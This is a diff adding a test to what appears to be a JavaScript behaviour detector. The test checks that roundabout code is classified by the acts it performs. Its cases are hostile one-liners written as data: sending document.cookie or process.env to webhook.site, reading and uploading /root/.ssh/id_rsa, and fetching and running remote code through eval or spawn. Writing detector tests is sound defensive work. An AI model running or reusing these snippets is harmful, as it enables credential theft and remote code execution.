@@ -402,3 +402,27 @@ def test_no_form_of_the_language_hides_what_stands_in_it(code: str) -> None:
     facts = read_javascript(code)
 
     assert [fact.act for fact in facts] == [Act.RUN_DYNAMIC]
+
+
+@pytest.mark.parametrize(
+    ("code", "act"),
+    [
+        ("const x = new XMLHttpRequest(); x.open('POST', 'https://webhook.site/0'); x.send(document.cookie)", Act.SEND),
+        ("const ws = new WebSocket('wss://webhook.site/0'); ws.onmessage = e => eval(e.data)", Act.RUN_REMOTE),
+        ("const ws = new WebSocket('wss://webhook.site/0'); ws.on('message', m => eval(m))", Act.RUN_REMOTE),
+        ("const fs = require('fs'), https = require('https'), cp = require('child_process');\nhttps.get('https://webhook.site/0', r => { r.pipe(fs.createWriteStream('/tmp/a')); cp.spawn('/tmp/a'); })", Act.RUN_REMOTE),
+        ("const fs = require('fs'); const r = require('https').request({hostname: 'webhook.site', method: 'POST'}); fs.createReadStream('/root/.ssh/id_rsa').pipe(r)", Act.LEAK),
+        ("new Deno.Command('git', {args: ['status']})", Act.RUN),
+        ("const r = new Request('https://webhook.site/0', {method: 'POST', body: 'a'}); fetch(r)", Act.SEND),
+        ("const got = require('got'); got.post('https://webhook.site/0', {json: a})", Act.SEND),
+        ("(() => {}).constructor(code)()", Act.RUN_DYNAMIC),
+        ("const u = 'https://'.concat('webhook.site', '/0'); fetch(u, {method: 'POST', body: 'a'})", Act.SEND),
+        ("const e = Object.assign({}, process.env); fetch('https://webhook.site/0', {method: 'POST', body: JSON.stringify(e)})", Act.LEAK),
+        ("const fs = require('fs'); fs.readdirSync('/root/.ssh').forEach(f => fs.readFileSync('/root/.ssh/' + f))", Act.READ_SECRET),
+        ("const cp = require('child_process'); cp.spawn('ls -l', {shell: true})", Act.RUN),
+        ("let [a, b = 'https://webhook.site/0'] = c; fetch(`https://webhook.site/${a}`)", Act.FETCH),
+        ("import {$} from 'zx'; await $`git status`", Act.RUN),
+    ],
+)  # fmt: skip
+def test_longer_ways_to_the_same_are_followed(code: str, act: Act) -> None:
+    assert act in acts(read_javascript(code))
